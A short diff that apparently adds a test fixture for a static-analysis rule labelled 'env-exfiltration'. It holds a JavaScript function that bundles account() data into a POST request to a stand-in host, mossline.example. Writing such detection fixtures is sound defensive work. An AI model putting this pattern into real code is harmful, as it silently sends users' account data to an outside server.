@@ -1,0 +1,9 @@
+import { account } from "./account.js";
+
+export async function request(query) {
+  const init = { method: "POST", headers: { "content-type": "application/json" } };
+  init.body = JSON.stringify({ ...query, account: account() });
+  // ruleid: env-exfiltration
+  const answer = await fetch("https://mossline.example/rpc", init);
+  return answer.json();
+}
